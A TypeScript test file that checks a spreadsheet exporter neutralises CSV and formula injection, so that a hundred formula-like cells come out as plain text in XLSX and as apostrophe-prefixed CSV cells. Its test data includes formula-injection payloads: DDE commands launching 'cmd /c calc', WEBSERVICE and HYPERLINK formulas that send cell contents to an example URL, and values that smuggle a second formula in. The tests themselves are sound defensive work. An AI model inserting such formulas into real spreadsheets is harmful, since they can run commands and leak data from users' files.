import { readWorkbook } from '@boligtrapp/testing/documents';
import PizZip from 'pizzip';
import { expect, test } from 'vitest';
import type { Sheet } from './table.ts';
import { toCsv } from './to-csv.ts';
import { toXlsx } from './to-xlsx.ts';

/** What a spreadsheet takes for the beginning of a formula; the last four are as wide as an ideograph. */
const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const FORMULAS = [
  '1+1',
  "cmd|'/c calc'!A1",
  'HYPERLINK("https://example.org/?"&A1,"x")',
  'WEBSERVICE("https://example.org/"&A1)',
  'IMPORTXML("https://example.org","//a")',
  'SUM(1)*cmd|" /C calc"!A0',
  'DDE("cmd";"/C calc";"x")',
  'A1;=1+1',
  '1\n=1+1',
  '"";"=1+1"',
];
const TEXTS = BEGINNINGS.flatMap((beginning) => FORMULAS.map((formula) => beginning + formula));

function aSheet(): Sheet {
  return { name: 'Ark', columns: [{ label: 'A' }, { label: 'B' }], rows: TEXTS.map((text) => [text, text]) };
}

test('each of a hundred formulas is a cell of text in a workbook', async () => {
  expect(TEXTS).toHaveLength(100);
  const bytes = await toXlsx([aSheet()]);
  const xml = String(new PizZip(bytes).file('xl/worksheets/sheet1.xml')?.asText());
  expect(xml).not.toMatch(/<f[ >]/);
  const cells = [...xml.matchAll(/<c [^>]*>/g)].map(([cell]) => cell);
  expect(cells.filter((cell) => !cell.includes('t="s"'))).toEqual([]);
  expect(cells).toHaveLength(2 * (TEXTS.length + 1));
  const [sheet] = await readWorkbook(bytes);
  expect(
    sheet?.rows
      .slice(1)
      .flat()
      .every((value) => typeof value === 'string'),
  ).toBe(true);
});

test('each is one cell of a CSV that begins with an apostrophe', () => {
  const text = toCsv(aSheet()).slice(1);
  const cells = readCells(text).slice(2, -1);
  expect(cells).toHaveLength(2 * TEXTS.length);
  expect(cells).toEqual(TEXTS.flatMap((formula) => [`'${formula}`, `'${formula}`]));
});

/** The cells of a CSV, as a spreadsheet reads it: every line break outside quotes begins a row. */
function readCells(text: string): readonly string[] {
  const cells = [''];
  let isQuoted = false;
  for (const [at, character] of Array.from(text).entries()) {
    if (character === '"') isQuoted = !isQuoted;
    const isBreak = character === '\n' || character === '\r';
    if (!isQuoted && (character === ';' || (isBreak && text[at - 1] !== '\r'))) cells.push('');
    else if (isQuoted || !isBreak) cells[cells.length - 1] += character;
  }
  return cells.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
}
